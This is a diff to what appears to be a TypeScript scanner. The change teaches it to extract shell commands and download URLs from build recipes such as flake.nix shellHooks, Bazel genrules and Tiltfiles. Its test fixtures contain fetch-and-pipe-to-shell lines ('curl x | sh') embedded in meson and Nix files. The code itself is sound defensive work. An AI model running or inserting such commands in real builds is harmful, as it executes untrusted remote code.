@@ -31,9 +31,18 @@ const fetching =
 const running =
   /\b(?:run_command|system|exec|sh|shell|inline|script|`)\s*[:(=]?\s*(?:\[?\s*["'](?:sh|bash)["']\s*,\s*["']-c["']\s*,\s*)?["']([^"'\n]{3,2000})["']/gu;
 
+/** `shellHook = ''…''` of nix, and its phases. */
+const nixScript = /\b(?:\w*Hook|\w*Phase|\w*[sS]cript|\w*Command|runtimeInputs|text)\s*=\s*''((?:[^']|'(?!'))*)''/gu;
+/** `cmd = "…"` of rules in Starlark, and `local("…")` of a Tiltfile. */
+const starlarkCommand =
+  /\b(?:cmd\w*|command|local|local_resource|entrypoint)\s*[=(]\s*(?:"""([^]{1,4000}?)"""|"((?:[^"\\\n]|\\.){3,4000})"|'((?:[^'\\\n]|\\.){3,4000})')/gu;
+
 function readRecipe(text: string): ReadFile {
   const given = text.slice(0, 64_000);
-  const steps = [...given.matchAll(running)].slice(0, 60).map((match): Step => ({ ...build, text: match[1] ?? "" }));
+  const found = [...given.matchAll(running), ...given.matchAll(nixScript), ...given.matchAll(starlarkCommand)];
+  const steps = found
+    .slice(0, 60)
+    .map(([, one, two, three]): Step => ({ ...build, text: (one ?? two ?? three ?? "").replaceAll("$$", "$") }));
   return {
     steps,
     settings: [...given.matchAll(fetching)].slice(0, 100).flatMap((match) => fetchedFrom(match[1] ?? "")),
@@ -71,10 +80,16 @@ export const buildSources: readonly Form[] = [
   {
     form: "build-recipe",
     kind: "self-running",
-    path: /\/(?:flake\.nix|shell\.nix|default\.nix|WORKSPACE(?:\.bazel)?|MODULE\.bazel|meson\.build|Podfile|Brewfile|Package\.swift|conanfile\.py|mix\.exs)$|\.bzl$/u,
+    path: /\/(?:flake\.nix|shell\.nix|default\.nix|WORKSPACE(?:\.bazel)?|MODULE\.bazel|BUILD(?:\.bazel)?|BUCK|Tiltfile|meson\.build|Brewfile|Package\.swift|mix\.exs)$|\.(?:bzl|nix)$/u,
     read: readRecipe,
     match: [
       { path: "meson.build", text: "run_command('sh','-c','curl x | sh')\n", runs: ["curl x | sh"] },
+      {
+        path: "flake.nix",
+        text: "mkShell {\n  shellHook = ''\n    curl x | sh\n  '';\n}\n",
+        runs: ["\n    curl x | sh\n  "],
+      },
+      { path: "BUILD.bazel", text: 'genrule(name = "v", cmd = "git log > $@")\n', runs: ["git log > $@"] },
       {
         path: "WORKSPACE",
         text: "http_archive(name='a', urls=['http://203.0.113.9/a.zip'])\n",
